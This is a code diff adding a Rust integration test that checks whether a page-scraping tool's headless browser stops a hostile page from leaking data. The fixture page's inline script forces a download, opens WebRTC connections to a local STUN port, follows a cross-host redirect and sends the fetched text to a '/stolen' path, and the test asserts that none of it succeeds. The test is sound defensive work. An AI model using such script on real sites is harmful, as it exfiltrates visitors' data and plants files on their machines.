@@ -1,5 +1,6 @@
 //! Pages that scripts make: read as a browser makes them, and the browser asks nobody but us.
 
+use std::net::UdpSocket;
 use std::process::Command;
 use std::time::{Duration, Instant};
 
@@ -172,6 +173,47 @@ fn a_page_that_never_ends_is_given_up_and_one_that_leads_on_is_followed() {
     });
     let ran = bed.run(&["refresh", "--force", "--json"]).ends(0);
     assert_eq!(report(&ran)["new"], 2);
+}
+
+#[test]
+fn no_datagram_and_no_file_leaves_a_page_and_a_redirect_opens_no_other_host() {
+    if !has_browser() {
+        return;
+    }
+    let peer = UdpSocket::bind("127.0.0.2:0").expect("a port");
+    peer.set_nonblocking(true).expect("a socket");
+    let at = peer.local_addr().expect("an address").port();
+    let other = Server::at("0.0.0.0:0", |_| Answer::page(NEWS));
+    let there = format!("http://127.0.0.2:{}/", other.port());
+    let server = Server::start(move |request| match request.path.as_str() {
+        "/leads-out" => Answer::status(302).with("Location", &there),
+        "/leads-on" => Answer::status(302).with("Location", "/new/deep/list"),
+        "/news/" => Answer::page(format!(
+            "<script>const a = document.createElement('a');\
+             a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'left-behind'; a.click();\
+             const frame = document.head.appendChild(document.createElement('iframe'));\
+             for (const of of [window, frame.contentWindow]) try {{\
+                 const peer = new of.RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.2:{at}' }}] }});\
+                 peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));\
+             }} catch (none) {{}}\
+             fetch('/leads-out').then(a => a.text()).then(text => fetch('/stolen?' + text), () => 0)\
+                 .then(() => setTimeout(() => location = '/leads-on', 400));</script>"
+        )),
+        "/new/deep/list" => Answer::page(
+            "<article><h3><a href=one>One</a></h3></article><article><h3><a href=two>Two</a></h3></article>",
+        ),
+        _ => app(request),
+    });
+    let bed = bed(&server, "/news/", RULES);
+    bed.write("home/.keep", "");
+    let mut command = bed.command(&["refresh"]);
+    let output = command.env("HOME", bed.path("home")).output().expect("it runs");
+    Ran::from(output).ends(0);
+    assert_eq!(bed.json_feed("news")["items"][0]["url"], server.url("/new/deep/one"));
+    let asked = server.asked_paths();
+    assert!(!asked.iter().any(|path| path.starts_with("/stolen")), "{asked:?}");
+    assert!(peer.recv(&mut [0; 64]).is_err(), "a datagram came");
+    assert!(bed.files("home").keys().all(|name| !name.contains("left-behind")));
 }
 
 #[test]
